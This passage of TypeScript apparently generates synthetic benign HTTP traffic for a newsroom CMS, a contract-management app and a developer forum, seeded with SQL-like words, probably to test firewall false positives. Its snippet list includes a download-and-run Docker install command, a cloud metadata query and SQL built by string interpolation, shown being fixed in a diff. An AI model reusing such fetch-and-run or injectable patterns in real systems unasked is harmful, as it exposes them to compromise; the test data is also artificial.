  '<figure class="embed embed--datawrapper"><iframe title="Average hours of sleep by age group" aria-label="Column Chart" id="datawrapper-chart-Xk3pQ" src="https://datawrapper.dwcdn.net/Xk3pQ/2/" scrolling="no" frameborder="0" style="width: 0; min-width: 100% !important; border: none;" height="420" data-external="1"></iframe></figure>',
  '<blockquote class="twitter-tweet" data-dnt="true"><p lang="en" dir="ltr">The select committee session starts at 9.30. Thread below 👇</p>&mdash; Parliament Live (@ParliamentLive) <a href="https://twitter.com/ParliamentLive/status/1861234567890123456">November 26, 2026</a></blockquote><script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>',
  '<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/C9xYz12abCd/" data-instgrm-version="14"><a href="https://www.instagram.com/p/C9xYz12abCd/">View this post on Instagram</a></blockquote>',
  '<figure class="embed embed--map"><iframe src="https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d2483.5!2d-0.1276!3d51.5072!2m3!1f0!2f0!3f0!3m2!1i1024!2i768!4f13.1" width="600" height="450" style="border:0;" allowfullscreen="" loading="lazy"></iframe></figure>',
  '<figure class="embed embed--audio"><audio controls preload="none" src="https://cdn.dailyledger.news/audio/2026/11/podcast-ep-212.mp3"></audio><figcaption>Listen: The Ledger podcast, episode 212</figcaption></figure>',
];
const CAPTIONS = [
  'Protesters gather outside the Union Buildings in Pretoria on Tuesday. Photograph: Thabo Nkosi/Daily Ledger',
  'The select committee chair, Dame Alison Reid, questions witnesses. Photograph: PA',
  'A worker drops a sandbag into place near the flooded A59. Photograph: Getty Images',
  'Maria Lopes at her desk in 1991 — “order, then chaos, then the front page”. Photograph: Daily Ledger archive',
  'Children asleep at a shelter in Kharkiv, where families sleep 8 hours in shifts. Photograph: Reuters',
  '“Exec” jets on the apron at Farnborough. Photograph: Alamy',
];

function articleHtml(): string {
  let html = `<p><strong>${pick(['LONDON', 'BERLIN', 'NEW YORK', 'PRETORIA', 'SÃO PAULO'])} —</strong> ${pick(PARAS)}</p>`;
  for (let i = 0; i < int(2, 6); i++) {
    const r = rnd();
    if (r < 0.45) html += `<p>${pick(PARAS)}</p>`;
    else if (r < 0.55)
      html += `<h2>${pick(['What happens next?', 'Background', 'How we reported this story', 'Key dates'])}</h2>`;
    else if (r < 0.65) html += `<blockquote><p>${pick(PARAS)}</p></blockquote>`;
    else if (r < 0.75)
      html += `<figure class="image"><img src="https://cdn.dailyledger.news/img/2026/11/${hex(12)}.jpg" alt="${pick(CAPTIONS).split('.')[0]}" width="1200" height="800" loading="lazy"><figcaption>${pick(CAPTIONS)}</figcaption></figure>`;
    else if (r < 0.85) html += pick(EMBEDS);
    else
      html += `<ul><li>${pick(['Tuesday 9.30am: select committee hearing', 'Polls open at 7am and close at 10pm', 'Drop-off points: town hall, library, leisure centre'])}</li><li>${pick(['Friday: union ballot result', 'Results expected after 2am', 'Read more: <a href="https://www.dailyledger.news/politics/2026/nov/19/explainer">our explainer</a>'])}</li></ul>`;
  }
  if (chance(0.2)) html += `<aside class="correction"><p><em>${PARAS[9]}</em></p></aside>`;
  return html;
}

function prosemirrorDoc(): unknown {
  const content: unknown[] = [];
  for (let i = 0; i < int(2, 5); i++) {
    if (chance(0.2))
      content.push({
        type: 'heading',
        attrs: { level: 2 },
        content: [{ type: 'text', text: pick(['Background', 'Analysis', 'What they said']) }],
      });
    const text = pick(PARAS);
    const cut = int(10, Math.max(11, text.length - 10));
    content.push({
      type: 'paragraph',
      content: [
        { type: 'text', text: text.slice(0, cut) },
        {
          type: 'text',
          marks: [
            {
              type: chance(0.5) ? 'bold' : 'link',
              attrs: { href: 'https://www.dailyledger.news/topics/parliament' },
            },
          ],
          text: text.slice(cut),
        },
      ],
    });
  }
  return { type: 'doc', content };
}

const slug = (s: string): string =>
  s
    .toLowerCase()
    .normalize('NFD')
    .replace(/[\u0300-\u036f]/g, '')
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');

const cms: (() => Req)[] = [
  () => {
    const title = pick(HEADLINES);
    return {
      kind: 'cms-html',
      method: pick(['POST', 'PUT']),
      path: pick(['/cms/api/articles', `/cms/api/articles/${int(100000, 999999)}`]),
      headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN }),
      body: json({
        headline: title,
        slug: slug(title),
        standfirst: pick(PARAS).slice(0, 140),
        section: pick(['politics', 'business', 'world', 'culture', 'science', 'obituaries']),
        byline: [pick(['Hana Kobayashi', 'Ben Okafor', 'Zoë Schröder', 'Siobhán O’Connor'])],
        body_html: articleHtml(),
        tags: pick([['parliament', 'energy'], ['unions', 'transport'], ['sleep', 'health'], ['courts']]),
        status: pick(['draft', 'in_review', 'scheduled']),
        publish_at: chance(0.5) ? isoRand() : null,
      }),
    };
  },
  () => ({
    kind: 'rest-write',
    method: 'PATCH',
    path: `/cms/api/articles/${int(100000, 999999)}/revisions/${int(1, 40)}`,
    headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN }),
    body: json({
      editor: 'prosemirror',
      schema_version: 7,
      doc: prosemirrorDoc(),
      autosave: true,
      client_rev: int(100, 900),
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/cms/api/articles/${int(100000, 999999)}/corrections`,
    headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN }),
    body: json({
      text: pick([
        'An earlier version of this article said the select committee meets on Thursdays. It meets on Tuesdays.',
        'We misspelled the name of Łukasz Wróbel. This has been corrected.',
        'This article was amended on 21 November 2026 to drop a reference to a union ballot that had not yet taken place.',
        'A photo caption wrongly said the executive order was signed in 2025; it was signed on 3 November 2026.',
        "The headline was changed from 'Sleep 8 hours or die trying' to better reflect the study's findings.",
      ]),
      type: pick(['correction', 'clarification']),
      visible: true,
    }),
  }),
  () => {
    const m = multipart([
      {
        name: 'image',
        filename: pick(['chart-sleep-by-age.svg', 'union-logo.svg']),
        type: 'image/svg+xml',
        value:
          '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 400 200"><title>Hours of sleep by age</title><rect x="10" y="40" width="50" height="160" fill="#2563eb"/><rect x="80" y="70" width="50" height="130" fill="#2563eb"/><text x="10" y="30" font-size="14">18–24</text></svg>',
      },
      { name: 'caption', value: pick(CAPTIONS) },
      { name: 'credit', value: pick(['Graphic: Daily Ledger', 'Reuters', 'PA Wire']) },
      { name: 'alt', value: 'Bar chart: average hours of sleep by age group' },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/cms/api/media',
      headers: headers('browser', { ct: m.ct, origin: CMS_ORIGIN }),
      body: m.body,
    };
  },
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/cms/graphql',
    headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN }),
    body: json({
      operationName: 'UpdateCaption',
      query:
        'mutation UpdateCaption($id: ID!, $caption: String!, $credit: String) {\n  updateMedia(id: $id, input: { caption: $caption, credit: $credit }) {\n    media { id caption credit updatedAt }\n  }\n}',
      variables: {
        id: `med_${token(10)}`,
        caption: pick(CAPTIONS),
        credit: pick(['Reuters', null, 'Getty Images']),
      },
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/cms/graphql',
    headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN }),
    body: json({
      query: `query Stories($section: String!, $q: String, $first: Int = 20, $after: String) {\n  stories(section: $section, query: $q, first: $first, after: $after, orderBy: { field: PUBLISHED_AT, direction: DESC }) {\n    edges { node { id headline status byline { name } } }\n    pageInfo { hasNextPage endCursor }\n  }\n}`,
      variables: {
        section: pick(['politics', 'business']),
        q: pick(['select committee', 'union strike', 'drop in prices', 'executive order']),
        first: 20,
        after: chance(0.5) ? b64(`arrayconnection:${int(20, 400)}`) : null,
      },
    }),
  }),
  () => {
    const params: [string, string][] = [
      [
        'q',
        pick([
          '"select committee"',
          'union AND strike',
          'sleep -podcast',
          'order OR decree',
          'where to vote',
          'drop "bus lanes"',
        ]),
      ],
      ['status', pick(['published', 'draft', 'any'])],
      ['section', pick(['politics', 'business', 'world'])],
      ['from', iso(-60 * 24 * 14).slice(0, 10)],
      ['sort', pick(['-published_at', 'relevance'])],
    ];
    return {
      kind: 'search',
      method: 'GET',
      path: `/cms/api/articles?${qs(params)}`,
      headers: headers('browser', { origin: CMS_ORIGIN }),
      body: '',
    };
  },
  () => ({
    kind: 'cms-html',
    method: 'POST',
    path: `/cms/api/liveblogs/${int(1000, 9999)}/entries`,
    headers: headers('browser', { ct: JSON_CT, origin: CMS_ORIGIN }),
    body: json({
      title: pick(['9.42am', 'Key event', 'Summary', '']),
      html: `<p>${pick(PARAS)}</p>${chance(0.5) ? pick(EMBEDS) : ''}`,
      pinned: chance(0.1),
      author_id: int(100, 999),
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/cms/api/media/${token(10)}?purge_cdn=true`,
    headers: headers('browser', { origin: CMS_ORIGIN }),
    body: '',
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/cms/hooks/wire/ingest',
    headers: { 'user-agent': 'Wire-Feeder/2.3', 'content-type': JSON_CT, 'x-signature-sha256': hex(64) },
    body: json({
      guid: `urn:newsml:wire:20261128:${digits(6)}`,
      version: int(1, 4),
      headline: pick(HEADLINES),
      body_xhtml: `<div><p>${pick(PARAS)}</p><p>${pick(PARAS)}</p></div>`,
      keywords: ['UK', 'politics', pick(['energy', 'labour', 'courts'])],
      embargo: null,
    }),
  }),
];

/* ------------------------------------------------------------------------------------------------------
 * Legal / contract management
 * ---------------------------------------------------------------------------------------------------- */

const LEGAL_ORIGIN = 'https://app.clausely.com';
const CLAUSES = [
  'This Agreement may be executed in any number of counterparts, each of which shall be deemed an original, and all of which together shall constitute one and the same instrument.',
  'Licensor hereby grants to Licensee a non-exclusive, non-transferable licence to use the Software solely for its internal business purposes, subject to the terms and conditions of this Agreement.',
  'Supplier shall not drop-ship any Order to a delivery address other than the one set out in the relevant Purchase Order without Customer’s prior written consent.',
  'Where either Party is in material breach and fails to remedy such breach within thirty (30) days of written notice, the other Party may terminate this Agreement with immediate effect.',
  'Each Party shall select one (1) representative to sit on the Steering Committee, which shall meet no less than quarterly.',
  'The Company shall recognise the Union as the sole bargaining agent for the employees in the Bargaining Unit described in Schedule 2.',
  'Nothing in this Agreement shall be construed to grant any right, title or interest in or to the Intellectual Property Rights of the other Party, except as expressly set out herein.',
  'Customer may, by written notice, declare an Event of Default if the Service Availability falls below 99.5% in any two (2) consecutive months.',
  'IN WITNESS WHEREOF, the Parties have caused this Agreement to be executed by their duly authorised representatives as of the Effective Date.',
  'Purchaser may place orders by submitting a Purchase Order; each Purchase Order shall be governed exclusively by this Agreement, and any terms in the Purchase Order that conflict with or add to these terms shall be void.',
  'The "Drop-Dead Date" means 31 March 2027, or such later date as the Parties may agree in writing.',
  'Neither Party shall, without the prior written consent of the other, directly or indirectly solicit or hire any employee of the other Party who was involved in the performance of this Agreement, whether as employee, officer, exec or consultant.',
  'Subject to clause 14.2, the aggregate liability of either Party (whether in contract, tort (including negligence) or otherwise) shall not exceed the Fees paid in the twelve (12) months preceding the claim.',
  'The Board may, by ordinary resolution, declare dividends, provided that no dividend shall exceed the amount recommended by the Directors.',
  'Executive\'s employment may be terminated by the Company for Cause, where "Cause" means (a) gross misconduct; (b) conviction of a criminal offence; or (c) wilful breach of clause 9 (Confidentiality).',
  'Für Streitigkeiten aus oder im Zusammenhang mit diesem Vertrag ist ausschließlich das Landgericht München I zuständig.',
  'Le présent contrat est régi par le droit français. Tout litige relatif à son exécution sera soumis aux tribunaux compétents de Paris.',
  'Union of Parties: where the Purchaser consists of more than one person, their obligations shall be joint and several.',
];
const legal: (() => Req)[] = [
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/legal/api/v1/clauses',
    headers: headers('browser', { ct: JSONAPI, accept: JSONAPI, origin: LEGAL_ORIGIN }),
    body: json({
      data: {
        type: 'clauses',
        attributes: {
          heading: pick([
            'Counterparts',
            'Grant of Licence',
            'Termination',
            'Governing Law',
            'Limitation of Liability',
            'Non-Solicitation',
            'Union Recognition',
            'Orders',
          ]),
          text: pick(CLAUSES),
          number: `${int(1, 24)}.${int(1, 9)}`,
          playbook_position: pick(['preferred', 'fallback', 'walk-away']),
          language: pick(['en-GB', 'en-US', 'de-DE', 'fr-FR']),
        },
        relationships: { contract: { data: { type: 'contracts', id: `ctr_${token(12)}` } } },
      },
    }),
  }),
  () => ({
    kind: 'json-patch',
    method: 'PATCH',
    path: `/legal/api/v1/contracts/ctr_${token(12)}`,
    headers: headers('browser', { ct: JPATCH, origin: LEGAL_ORIGIN }),
    body: json([
      { op: 'test', path: '/version', value: int(3, 30) },
      { op: 'replace', path: `/clauses/${int(0, 20)}/text`, value: pick(CLAUSES) },
      ...(chance(0.5)
        ? [
            {
              op: 'add',
              path: '/comments/-',
              value: { author: 'J. Whitaker', text: 'Please drop the "exec" wording; use "officer".' },
            },
          ]
        : []),
    ]),
  }),
  () => ({
    kind: 'merge-patch',
    method: 'PATCH',
    path: `/legal/api/v1/contracts/ctr_${token(12)}`,
    headers: headers('browser', { ct: MERGE, origin: LEGAL_ORIGIN }),
    body: json(
      pick([
        {
          status: 'executed',
          executed_at: isoRand(),
          counterparty_signatory: { name: "Siobhán O'Connor", title: 'General Counsel' },
        },
        {
          title: 'Master Services Agreement – Union Freight Services (v4)',
          renewal: { auto: false, notice_days: 90 },
        },
        {
          governing_law: 'England and Wales',
          jurisdiction: 'exclusive',
          notes: 'Select committee of both GCs to resolve deadlocks before arbitration.',
        },
        { tags: ['nda', 'mutual'], confidentiality_years: 5, where_signed: 'London' },
      ]),
    ),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/legal/api/v1/contracts/ctr_${token(12)}/comments`,
    headers: headers('browser', { ct: JSON_CT, origin: LEGAL_ORIGIN }),
    body: json({
      clause_id: `cl_${token(10)}`,
      text: pick([
        'Counterparty wants to drop 14.2 entirely. I would push back: it is the only cap we have on indirect losses.',
        'Can we select the fallback wording here? The preferred position will not fly with their union.',
        "Where it says 'execute', do they mean sign or perform? Suggest 'sign' to avoid ambiguity.",
        'Grant is too broad: "any purpose" should be "internal business purposes". Also, order of precedence clause is missing.',
        'Per our call: they will declare the NDA void if we do not countersign by Friday. Exec team is aware.',
        'OK from my side. Ready for e-signature -- please route to Ana María for final sign-off.',
        'Redline attached. Struck: "and/or"; inserted: "or". Also moved the drop-dead date to 31/03/2027.',
      ]),
      mentions: chance(0.4) ? [`usr_${token(8)}`] : [],
    }),
  }),
  () => {
    const params: [string, string][] = [
      [
        'q',
        pick([
          '"force majeure" AND (pandemic OR epidemic)',
          'drop-dead date',
          '"union recognition"',
          'grant NEAR/5 licence',
          'executed -draft',
          'select committee',
          "governing law 'england'",
        ]),
      ],
      ['filter[status]', pick(['executed', 'negotiation', 'expired'])],
      ['filter[counterparty]', pick(COMPANIES)],
      ['sort', pick(['-updated_at', 'title', '-value'])],
      ['include', 'clauses,owner'],
    ];
    return {
      kind: 'search',
      method: 'GET',
      path: `/legal/api/v1/contracts?${qs(params)}`,
      headers: headers('browser', { accept: JSONAPI, origin: LEGAL_ORIGIN }),
      body: '',
    };
  },
  () => {
    const m = multipart([
      {
        name: 'document',
        filename: pick(['MSA_UnionFreight_v4.txt', 'NDA (mutual) - signed.txt', 'Rahmenvertrag_2027.txt']),
        type: 'text/plain',
        value: `${pick(CLAUSES)}\n\n${pick(CLAUSES)}\n\n${pick(CLAUSES)}\n`,
      },
      { name: 'contract_type', value: pick(['msa', 'nda', 'employment', 'supply']) },
      { name: 'counterparty', value: pick(COMPANIES) },
      { name: 'ocr', value: 'false' },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/legal/api/v1/documents',
      headers: headers('browser', { ct: m.ct, origin: LEGAL_ORIGIN }),
      body: m.body,
    };
  },
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/legal/hooks/esign',
    headers: {
      'user-agent': 'DocuSign-Connect/2.0',
      'content-type': JSON_UTF8,
      'x-docusign-signature-1': b64(token(32)),
    },
    body: json({
      event: pick(['envelope-completed', 'recipient-signed', 'envelope-declined']),
      apiVersion: 'v2.1',
      generatedDateTime: isoRand(),
      data: {
        accountId: uuid(),
        envelopeId: uuid(),
        envelopeSummary: {
          status: 'completed',
          emailSubject: 'Please DocuSign: MSA – Union Freight Services (execution version)',
          sender: { userName: 'Grant Whitaker' },
        },
        recipientId: String(int(1, 4)),
        declinedReason: chance(0.2) ? 'Order of signatories is wrong; our CEO must sign first.' : undefined,
      },
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/legal/intake/request',
    headers: headers('browser', {
      ct: FORM_CT,
      origin: LEGAL_ORIGIN,
      accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    }),
    body: form([
      ['requester', pick(['Priya Raghunathan', 'Marek Dvořák', 'Chloé Lefèvre'])],
      ['department', pick(['Sales', 'Procurement', 'HR'])],
      ['type', pick(['NDA', 'Order form', 'Union agreement amendment'])],
      [
        'details',
        pick([
          'Need an NDA executed before Thursday; counterparty is Select Comfort.',
          'Please review the order form where they changed the payment terms (net 90?!)',
          'Draft grant letter for the new exec hire; start date 1 Jan.',
        ]),
      ],
      ['urgency', pick(['normal', 'high'])],
    ]),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/legal/graphql',
    headers: headers('browser', { ct: JSON_CT, origin: LEGAL_ORIGIN }),
    body: json({
      operationName: 'ApproveClause',
      query:
        'mutation ApproveClause($clauseId: ID!, $decision: Decision!, $comment: String) {\n  approveClause(clauseId: $clauseId, decision: $decision, comment: $comment) { clause { id status } }\n}',
      variables: {
        clauseId: `cl_${token(10)}`,
        decision: pick(['APPROVE', 'REJECT', 'ESCALATE']),
        comment: pick([
          'Union clause OK as drafted.',
          'Drop the second sentence; otherwise fine.',
          'Where is the cap? Escalating to GC.',
          null,
        ]),
      },
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/legal/api/v1/contracts/ctr_${token(12)}/clauses/cl_${token(10)}`,
    headers: headers('browser', { origin: LEGAL_ORIGIN, accept: JSONAPI }),
    body: '',
  }),
];

/* ------------------------------------------------------------------------------------------------------
 * Developer forum / GitHub-style API
 * ---------------------------------------------------------------------------------------------------- */

const F = '```';
const SNIPPETS: readonly (readonly [string, string])[] = [
  [
    'bash',
    'rm -rf node_modules package-lock.json\nnpm cache clean --force\nnpm ci && npm run build 2>&1 | tee build.log',
  ],
  [
    'bash',
    'curl -fsSL https://get.docker.com -o get-docker.sh\nsudo sh get-docker.sh\nsudo usermod -aG docker $USER && newgrp docker',
  ],
  [
    'sh',
    'for f in $(find . -name "*.log" -mtime +7); do\n  gzip "$f" && mv "$f.gz" /var/archive/\ndone\nsleep 5; echo "done: $(date -u +%FT%TZ)"',
  ],
  [
    'console',
    '$ kubectl exec -it deploy/api -- /bin/sh -c "cat /etc/os-release; env | grep -i proxy"\nNAME="Alpine Linux"\nVERSION_ID=3.20.3\nHTTP_PROXY=http://10.0.0.12:3128',
  ],
  [
    'sql',
    "SELECT u.id, u.email, count(o.id) AS orders\nFROM users u\nLEFT JOIN orders o ON o.user_id = u.id AND o.status <> 'cancelled'\nWHERE u.created_at > now() - interval '30 days'\nGROUP BY u.id, u.email\nHAVING count(o.id) > 1\nORDER BY orders DESC\nLIMIT 50;",
  ],
  [
    'sql',
    "-- migration 0042: drop the old index, add a partial one\nDROP INDEX IF EXISTS idx_events_created;\nCREATE INDEX CONCURRENTLY idx_events_open ON events (created_at) WHERE closed_at IS NULL;\nUPDATE settings SET value = '1' WHERE key = 'feature.union_views';",
  ],
  [
    'sql',
    "SELECT id FROM a WHERE x = 1\nUNION ALL\nSELECT id FROM b WHERE y = 'it''s fine';\n-- returns 2 rows on 15.4, 0 rows on 16.1 ???",
  ],
  [
    'python',
    "import subprocess, json\n\nout = subprocess.run(['git', 'log', '--format=%H %s', '-n', '5'], capture_output=True, text=True, check=True)\nfor line in out.stdout.splitlines():\n    sha, msg = line.split(' ', 1)\n    print(json.dumps({'sha': sha, 'msg': msg}))",
  ],
  [
    'pytb',
    'Traceback (most recent call last):\n  File "/app/worker.py", line 88, in <module>\n    main()\n  File "/app/worker.py", line 61, in main\n    rows = cur.execute("SELECT * FROM jobs WHERE state = %s", (state,)).fetchall()\npsycopg.errors.UndefinedTable: relation "jobs" does not exist\nLINE 1: SELECT * FROM jobs WHERE state = $1',
  ],
  [
    'ts',
    'export async function getUser(id: string): Promise<User | undefined> {\n  const res = await fetch(`${API}/users/${encodeURIComponent(id)}`, {\n    headers: { authorization: `Bearer ${token}` },\n  });\n  if (!res.ok) throw new Error(`HTTP ${res.status}`);\n  return (await res.json()) as User;\n}',
  ],
  [
    'js',
    "const { exec } = require('node:child_process');\nexec('git rev-parse --short HEAD', (err, stdout) => {\n  if (err) return console.error(err);\n  console.log(`build ${stdout.trim()}`);\n});",
  ],
  [
    'java',
    'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.example.crm.ContactService.normalize(ContactService.java:118)\n\tat com.example.crm.ContactService.save(ContactService.java:64)\n\tat org.springframework.aop.framework.ReflectiveMethodInvocation.proceed(ReflectiveMethodInvocation.java:184)\n\t... 42 more',
  ],
  [
    'yaml',
    'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 3\n  template:\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/acme/api:{{ .Values.image.tag }}\n          command: ["/bin/sh", "-c"]\n          args: ["./migrate && exec node server.js"]\n          env:\n            - name: DATABASE_URL\n              valueFrom:\n                secretKeyRef: { name: db, key: url }',
  ],
  [
    'yaml',
    'name: ci\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
  ],
  [
    'nginx',
    'server {\n    listen 443 ssl http2;\n    server_name api.example.com;\n    location /api/ {\n        proxy_pass http://127.0.0.1:8080/;\n        proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    }\n    location ~ /\\.(?!well-known) { deny all; }\n}',
  ],
  [
    'powershell',
    'Get-ChildItem -Path C:\\inetpub\\logs\\LogFiles -Recurse -Filter *.log |\n  Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } |\n  Remove-Item -Force -WhatIf\nInvoke-WebRequest -Uri https://example.com/health -UseBasicParsing | Select-Object StatusCode',
  ],
  [
    'regex',
    '^(?<user>[a-z0-9._%+-]+)@(?<domain>[a-z0-9.-]+\\.[a-z]{2,})$\n# and for the semver check:\n^v?(0|[1-9]\\d*)\\.(0|[1-9]\\d*)\\.(0|[1-9]\\d*)(?:-([\\w.-]+))?$',
  ],
  [
    'log',
    '2026-11-27T22:41:07.311Z ERROR [http] GET /api/v2/orders?status=open&sort=-created 500 1832ms\n2026-11-27T22:41:07.312Z ERROR [db] timeout acquiring connection (pool size 10, waiting 37)\n2026-11-27T22:41:09.002Z WARN  [http] retry 1/3 for upstream 10.0.3.14:5432',
  ],
  [
    'xml',
    '<Configuration status="warn">\n  <Appenders>\n    <Console name="Console" target="SYSTEM_OUT">\n      <PatternLayout pattern="%d{ISO8601} [%t] %-5level %logger{36} - %msg%n"/>\n    </Console>\n  </Appenders>\n  <Loggers><Root level="${env:LOG_LEVEL:-info}"><AppenderRef ref="Console"/></Root></Loggers>\n</Configuration>',
  ],
  [
    'go',
    'func (s *Server) handle(w http.ResponseWriter, r *http.Request) {\n\tctx, cancel := context.WithTimeout(r.Context(), 2*time.Second)\n\tdefer cancel()\n\trows, err := s.db.QueryContext(ctx, "SELECT id, name FROM devices WHERE owner = $1", userID(r))\n\tif err != nil {\n\t\thttp.Error(w, err.Error(), 500)\n\t\treturn\n\t}\n\tdefer rows.Close()\n}',
  ],
  [
    'dockerfile',
    'FROM node:24-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev && rm -rf /root/.npm\nCOPY . .\nUSER node\nCMD ["node", "server.js"]',
  ],
  [
    'bash',
    '# IMDSv2 from inside the instance\nTOKEN=$(curl -s -X PUT "http://169.254.169.254/latest/api/token" -H "X-aws-ec2-metadata-token-ttl-seconds: 21600")\ncurl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/instance-id',
  ],
  [
    'diff',
    "@@ -12,7 +12,7 @@ export function buildQuery(filters: Filter[]) {\n-  const where = filters.map((f) => `${f.col} = '${f.val}'`).join(' AND ');\n+  const where = filters.map((f, i) => `${f.col} = $${i + 1}`).join(' AND ');\n   return `SELECT * FROM items WHERE ${where}`;",
  ],
  [
    'rust',
    'fn main() -> Result<(), Box<dyn std::error::Error>> {\n    let body: serde_json::Value = reqwest::blocking::get("https://httpbin.org/json")?.json()?;\n    println!("{:#}", body);\n    Ok(())\n}',
  ],
  [
    'jinja',
    '{% for host in groups["web"] %}\nserver {{ hostvars[host].ansible_host }}:8080 max_fails=3;\n{% endfor %}',
  ],
  [
    'php',
    "<?php\n$stmt = $pdo->prepare('SELECT * FROM users WHERE email = :email');\n$stmt->execute(['email' => $_POST['email'] ?? '']);\n$user = $stmt->fetch(PDO::FETCH_ASSOC);",
  ],
];
const INTROS = [
  'Same here on 4.2.1. Repro:',
  'I can reproduce this on macOS 15 with Node 24. Steps:',
  'Not sure if related, but we see this in our logs after upgrading:',
  "Here's the workaround we use until this is fixed:",
  'Minimal repro below. Expected 2 rows, got 0.',
  'Stack trace from prod (redacted):',
  'FWIW this is our config, works fine behind the LB:',
  '+1, also happens with the Helm chart. Values:',
  "@maintainers I think the root cause is here (see the diff). Happy to open a PR if that's the right direction.",
  'Tried `npm ci` and `rm -rf dist` — no change. Output:',
  'Für die Nachwelt, so habe ich es gelöst:',
  '再現手順です:',
  '',
];
const OUTROS = [
  'Any idea what is going on?',
  'Works after `sleep 5` between the steps, so it looks like a race.',
  'Closing since this is fixed in v4.3.0 🎉',
  'Let me know if you need more logs.',
  'cc @mkobayashi @siobhan-oc',
  '',
  "Note: don't run the `rm -rf` line in your home dir 😅",
  'Edit: forgot to mention we are on PostgreSQL 16.1 / Ubuntu 24.04.',
];
const INLINE_COMMENTS = [
  'Looks good overall. Nit: prefer `const` over `let` on L42, and `Array.prototype.flatMap` would simplify the loop.',
  'Could you add a test for the case where `where` is empty? Right now `buildQuery([])` returns `SELECT * FROM items WHERE ` which Postgres rejects.',
  'LGTM 🚀',
  'This drops support for Node 18 — is that intentional? If so please update `engines` in package.json and the README.',
  "I'd rather not shell out here (`child_process.exec`); `execFile` with an args array avoids quoting issues.",
  'The regex `/^\\d{4}-\\d{2}-\\d{2}$/` rejects `2026-11-28T10:00:00Z`. Use `Date.parse` or a proper ISO parser.',
  'Why `SELECT *`? Listing the columns makes the migration to the union view much easier later.',
  'Please squash before merge. Also `git commit --amend --no-edit && git push -f` is fine for this branch.',
  'Nice catch with `../` in the upload path — `path.resolve` + a prefix check is what we do in `storage/local.ts`.',
  'Approved, but let’s not merge until Monday; release freeze until the `v5.0.0` tag.',
];

function issueMarkdown(): string {
  const r = rnd();
  const [lang, code] = pick(SNIPPETS);
  if (r < 0.15) return `${F}${lang}\n${code}\n${F}`;
  if (r < 0.3) return pick(INLINE_COMMENTS);
  let s = pick(INTROS);
  s += `${s ? '\n\n' : ''}${F}${lang}\n${code}\n${F}\n`;
  if (chance(0.3)) {
    const [l2, c2] = pick(SNIPPETS);
    s += `\nand\n\n${F}${l2}\n${c2}\n${F}\n`;
  }
  const o = pick(OUTROS);
  return o ? `${s}\n${o}` : s;
}

const FORUM_ORIGIN = 'https://forge.devhub.dev';
const REPOS = [
  'acme/api',
  'homenest/firmware',
  'dailyledger/cms',
  'pipewise/sdk-js',
  'clausely/redline',
  'fooddash/ios',
];
const forum: (() => Req)[] = [
  () => ({
    kind: 'issue-comment',
    method: 'POST',
    path: `/api/v3/repos/${pick(REPOS)}/issues/${int(1, 4000)}/comments`,
    headers: headers(chance(0.7) ? 'browser' : 'tool', {
      ct: JSON_CT,
      origin: FORUM_ORIGIN,
      auth: chance(0.5) ? 'token' : 'cookie',
      accept: 'application/vnd.github+json',
    }),
    body: json({ body: issueMarkdown() }),
  }),
  () => ({
    kind: 'issue-comment',
    method: 'POST',
    path: `/api/v3/repos/${pick(REPOS)}/issues`,
    headers: headers('browser', { ct: JSON_CT, origin: FORUM_ORIGIN, accept: 'application/vnd.github+json' }),
    body: json({
      title: pick([
        'Query returns 0 rows after upgrading to PG 16 (UNION ALL)',
        'kubectl exec fails with "OCI runtime exec failed"',
        'NullPointerException in ContactService.normalize when name is null',
        'Docs: `sleep` example in quickstart uses wrong units',
        'nginx: 502 after enabling http2 on /api/',
        "Can't drop table in migration 0042 (lock timeout)",
        'Feature request: select multiple devices and rename at once',
      ]),
      body: `### Describe the bug\n\n${issueMarkdown()}\n\n### Environment\n\n- OS: ${pick(['Ubuntu 24.04', 'macOS 15.1', 'Windows 11 23H2', 'Alpine 3.20'])}\n- Version: ${int(1, 5)}.${int(0, 12)}.${int(0, 9)}`,
      labels: pick([['bug'], ['bug', 'needs-triage'], ['docs'], ['enhancement']]),
    }),
  }),
  () => ({
    kind: 'pr-review',
    method: 'POST',
    path: `/api/v3/repos/${pick(REPOS)}/pulls/${int(1, 900)}/comments`,
    headers: headers('browser', { ct: JSON_CT, origin: FORUM_ORIGIN, accept: 'application/vnd.github+json' }),
    body: json({
      body: chance(0.4)
